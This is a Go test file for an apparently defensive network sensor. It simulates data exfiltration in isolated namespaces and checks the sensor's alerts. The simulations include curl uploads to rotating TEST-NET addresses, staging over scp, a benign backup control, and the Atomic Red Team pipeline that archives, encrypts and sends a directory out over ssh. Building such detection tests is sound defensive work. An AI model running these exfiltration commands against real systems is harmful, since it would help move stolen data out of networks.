package scenarios

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"testing"
	"time"

	"github.com/netsentinel/netsentinel/test/netns"
)

// Exfiltration the per-destination sum misses: uploads split over rotating
// addresses, an internal staging host followed by an external upload, and
// the Atomic Red Team's tar | openssl | ssh upload; and the benign nightly
// backup to an internal host, which must stay silent.

// curlUpload is a PUT of file to url that sends its body and then waits for
// an answer the listener never gives, until maxTime: the
// connection stays open across a poll with its byte counters, as an upload
// to a slow object store does.
func curlUpload(file, url, maxTime string) []string {
	return []string{"-s", "-o", "/dev/null", "-H", "Expect:", "--max-time", maxTime, "-T", file, url}
}

// dropHost adds ip to the "internet" namespace with a keep-open ncat
// listener on port that reads and never answers (nor closes its side, as
// --recv-only would).
func dropHost(t *testing.T, topo *netns.Topology, ip, port string, d time.Duration) {
	t.Helper()
	internetHost(t, topo, ip)
	listen(t, topo, topo.I, ip, port, d)
}

// scpArgs are scp options for the scenario's sshd, at limit Kbit/s.
func (k sshKeys) scpArgs(limitKbit int, file, dst string) []string {
	// -O: the scp protocol (the scenario's sshd has no sftp subsystem).
	return []string{"-O", "-i", k.client, "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR", "-l", strconv.Itoa(limitKbit), file, dst}
}

// waitHost waits for cmd (started with hostStart) to end within d.
func waitHost(t *testing.T, cmd interface{ Wait() error }, what string, d time.Duration) {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	case <-time.After(d):
		t.Fatalf("%s did not end within %s", what, d)
	}
}

var bytesAcked = regexp.MustCompile(`bytes_acked:(\d+)`)

// waitAcked watches the host's TCP connections to dst (ss, every 50 ms) and
// returns when their acknowledged bytes first reach n: the moment an
// upload crosses a threshold. It fails after d.
func waitAcked(t *testing.T, topo *netns.Topology, dst string, n uint64, d time.Duration) time.Time {
	t.Helper()
	for deadline := time.Now().Add(d); ; time.Sleep(50 * time.Millisecond) {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		out, _ := topo.Cmd(ctx, topo.H, "ss", "-tinH", "dst", dst).Output()
		cancel()
		var sum uint64
		for _, m := range bytesAcked.FindAllSubmatch(out, -1) {
			v, _ := strconv.ParseUint(string(m[1]), 10, 64)
			sum += v
		}
		if sum >= n {
			return time.Now()
		}
		if time.Now().After(deadline) {
			t.Fatalf("uploads to %s did not reach %d bytes acknowledged within %s (last %d)", dst, n, d, sum)
		}
	}
}

// Five 12 MB uploads by curl, each to the next of five rotating TEST-NET
// addresses (as object storage and CDNs hand out), each connection a few
// seconds long: no destination reaches 50 MB, the uploader does at the
// fifth. As root the sum is curl's (its process); unprivileged, root's
// sockets have no readable owner and add up by their uid.
func TestExfilRotatingAddresses(t *testing.T) {
	netns.RequireTools(t, "curl", "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		const n = 5
		dsts := make([]string, n)
		for i := range dsts {
			dsts[i] = fmt.Sprintf("203.0.113.%d", 101+i)
			dropHost(t, topo, dsts[i], "8080", 60*time.Second)
		}
		file := filepath.Join(t.TempDir(), "part.bin")
		sparseFile(t, file, 12_000_000)
		s := startSensor(t, topo, "exfil_rotating", sensorOptions{mode: m})
		var start time.Time
		for i, dst := range dsts {
			var cmd interface{ Wait() error }
			cmd, start = hostStart(t, topo, 20*time.Second, "curl", curlUpload(file, "http://"+dst+":8080/bucket/part"+fmt.Sprint(i), "2")...)
			_ = cmd.Wait() // curl gives up waiting for the answer (exit 28): the body was sent
		}
		scope := "user"
		if m.Privileged {
			scope = "process"
		}
		e := s.expect(t, "exfil_rotating", "T1048", start, fmt.Sprintf("5 × 12 MB by curl to 5 rotating addresses 203.0.113.101-105 (scope %s)", scope),
			and(isTechnique("exfiltration", "T1048"), func(e map[string]any) bool { return str(e, "netsentinel.evidence.scope") == scope }))
		if m.Privileged {
			wantField(t, e, "process.name", "curl")
		}
		if nd := fmt.Sprint(field(e, "netsentinel.evidence.distinct_destinations")); nd != "5" {
			t.Errorf("distinct_destinations = %s, want 5; alert: %s", nd, describe(e))
		}
		s.wantNone(t, "per-destination alert", func(e map[string]any) bool {
			return str(e, "rule.id") == "exfiltration" && str(e, "netsentinel.evidence.scope") == "destination"
		})
	})
}

// Internal staging then external upload: 60 MB by scp to a LAN host, then
// 15 MB by curl to a TEST-NET address, both as root. Neither alone alerts
// (the upload is under 50 MB); together they are one staged exfiltration
// naming both hosts.
func TestExfilStaged(t *testing.T) {
	netns.RequireTools(t, "scp", "ssh-keygen", "curl", "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 1)
		k := newSSHKeys(t)
		startSSHD(t, topo, k, topo.LAN[0], lanIP(0), 60*time.Second)
		const drop = "203.0.113.120"
		dropHost(t, topo, drop, "8080", 60*time.Second)
		dir := t.TempDir()
		archive, upload := filepath.Join(dir, "archive.tar"), filepath.Join(dir, "upload.bin")
		sparseFile(t, archive, 60_000_000)
		sparseFile(t, upload, 15_000_000)
		s := startSensor(t, topo, "exfil_staged", sensorOptions{mode: m})
		// 200 Mbit/s: the copy takes ~2.5 s, so polls see it with its owner.
		cmd, _ := hostStart(t, topo, 30*time.Second, "scp", k.scpArgs(200000, archive, "root@"+lanIP(0)+":/dev/null")...)
		waitHost(t, cmd, "scp to the staging host", 30*time.Second)
		_, start := hostStart(t, topo, 20*time.Second, "curl", curlUpload(upload, "http://"+drop+":8080/upload", "4")...)
		e := s.expect(t, "exfil_staged", "T1048", start, "60 MB scp to LAN host "+lanIP(0)+", then 15 MB by curl to "+drop,
			and(isTechnique("staged_exfiltration", "T1048"), destIs(drop)))
		wantField(t, e, "netsentinel.evidence.staging_host", lanIP(0))
		if m.Privileged {
			wantField(t, e, "process.name", "curl")
			wantField(t, e, "netsentinel.evidence.staging_process", "ssh") // scp's transport is its ssh child
		}
		s.wantNone(t, "plain exfiltration alert beside the staged one", isTechnique("exfiltration", "T1048"))
	})
}

// The nightly backup: 100 MB by scp to an internal host, then an ordinary
// small external request. Nothing alerts.
func TestExfilBackupControl(t *testing.T) {
	netns.RequireTools(t, "scp", "ssh-keygen", "curl", "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 1)
		k := newSSHKeys(t)
		startSSHD(t, topo, k, topo.LAN[0], lanIP(0), 60*time.Second)
		const site = "203.0.113.121"
		dropHost(t, topo, site, "8080", 60*time.Second)
		archive := filepath.Join(t.TempDir(), "nightly.tar")
		sparseFile(t, archive, 100_000_000)
		s := startSensor(t, topo, "exfil_backup_control", sensorOptions{mode: m})
		cmd, _ := hostStart(t, topo, 30*time.Second, "scp", k.scpArgs(400000, archive, "root@"+lanIP(0)+":/dev/null")...)
		waitHost(t, cmd, "backup scp", 30*time.Second)
		c2, _ := hostStart(t, topo, 10*time.Second, "curl", "-s", "-o", "/dev/null", "--max-time", "2", "http://"+site+":8080/status")
		_ = c2.Wait()
		s.waitPolls(t, 3)
		alerts := s.events.All()
		for _, e := range alerts {
			t.Errorf("benign backup raised an alert: %s", describe(e))
		}
		det := "0 alerts (correct)"
		if len(alerts) > 0 {
			det = fmt.Sprintf("%d alerts (WRONG)", len(alerts))
		}
		record(result{Scenario: "exfil_backup_control", Mode: m.String(), Detected: det, Technique: "—", Latency: "—",
			Note: "100 MB scp backup to LAN host " + lanIP(0) + ", then a small HTTP request to " + site})
	})
}

// Atomic Red Team T1048 #2 on Linux: tar czpf - DIR | openssl des3 -salt
// -pass ... | ssh user@host 'cat > FILE', to an sshd on a TEST-NET address.
// The directory holds 56 MB of random data (incompressible, as real loot
// rarely is not), so the upload crosses 50 MB.
func TestExfilAtomicTarOpensslSSH(t *testing.T) {
	netns.RequireTools(t, "ssh", "ssh-keygen", "tar", "openssl", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		k := newSSHKeys(t)
		const dst = "198.51.100.140"
		internetHost(t, topo, dst)
		startSSHD(t, topo, k, topo.I, dst, 60*time.Second)
		loot := filepath.Join(t.TempDir(), "Users")
		if err := os.Mkdir(loot, 0o700); err != nil {
			t.Fatal(err)
		}
		run(t, topo.Cmd(ctxFor(t, 30*time.Second), topo.H, "sh", "-c", "head -c 56000000 /dev/urandom > "+filepath.Join(loot, "documents.bin")))
		s := startSensor(t, topo, "exfil_atomic_tar_openssl_ssh", sensorOptions{mode: m})
		ssh := "ssh " + shellJoin(k.sshArgs(dst, "cat > /dev/null"))
		cmd, _ := hostStart(t, topo, 60*time.Second, "sh", "-c",
			"tar czpf - -C "+filepath.Dir(loot)+" Users | openssl des3 -salt -pbkdf2 -pass pass:atomic | "+ssh)
		crossed := waitAcked(t, topo, dst, 50_000_000, 45*time.Second)
		e := s.expect(t, "exfil_atomic_tar_openssl_ssh", "T1048", crossed, "ART T1048 #2: tar czpf | openssl des3 | ssh "+dst+" 'cat >' (56 MB random)",
			and(isTechnique("exfiltration", "T1048"), destIs(dst)))
		if m.Privileged {
			wantField(t, e, "process.name", "ssh")
		}
		waitHost(t, cmd, "tar | openssl | ssh", 60*time.Second)
	})
}

// shellJoin quotes args for sh -c.
func shellJoin(args []string) string {
	var b bytes.Buffer
	for i, a := range args {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString("'" + regexp.MustCompile(`'`).ReplaceAllString(a, `'\''`) + "'")
	}
	return b.String()
}
